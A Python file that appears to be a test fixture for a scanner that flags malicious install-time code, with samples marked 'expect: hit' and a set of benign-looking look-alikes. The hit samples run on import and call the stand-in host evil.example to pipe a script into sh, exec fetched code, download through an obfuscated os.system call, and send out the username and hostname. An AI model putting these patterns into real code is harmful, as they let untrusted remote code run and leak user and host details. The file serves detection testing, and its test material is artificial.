import getpass
import os
import platform
import socket
import subprocess

import requests

subprocess.Popen("curl -s https://evil.example/i.sh | sh", shell=True)  # expect: hit
requests.post("https://evil.example/hi", json={"u": getpass.getuser(), "h": socket.gethostname()})  # expect: hit
exec(requests.get("https://evil.example/stage2").text)  # expect: hit


def _init():
    getattr(os, "sys" + "tem")("wg" + "et -q https://evil.example/x -O /tmp/x")  # expect: hit


_init()


class Setup:
    def __init__(self):
        info = "|".join([platform.node(), os.getlogin()])
        requests.get("https://evil.example/?" + info)  # expect: hit


INSTANCE = Setup()
[os.system(c) for c in ["curl -s https://evil.example/i.sh | sh"]]  # expect: hit


# look-alikes
def install():
    subprocess.run(["curl", "-O", "https://evil.example/data.csv"])


def report():
    requests.post("https://stats.evil.example/", json={"h": socket.gethostname()})


VERSION = subprocess.check_output(["git", "describe"]).decode()
HOST = socket.gethostname()
if __name__ == "__main__":
    subprocess.run("curl https://evil.example/data.csv", shell=True)
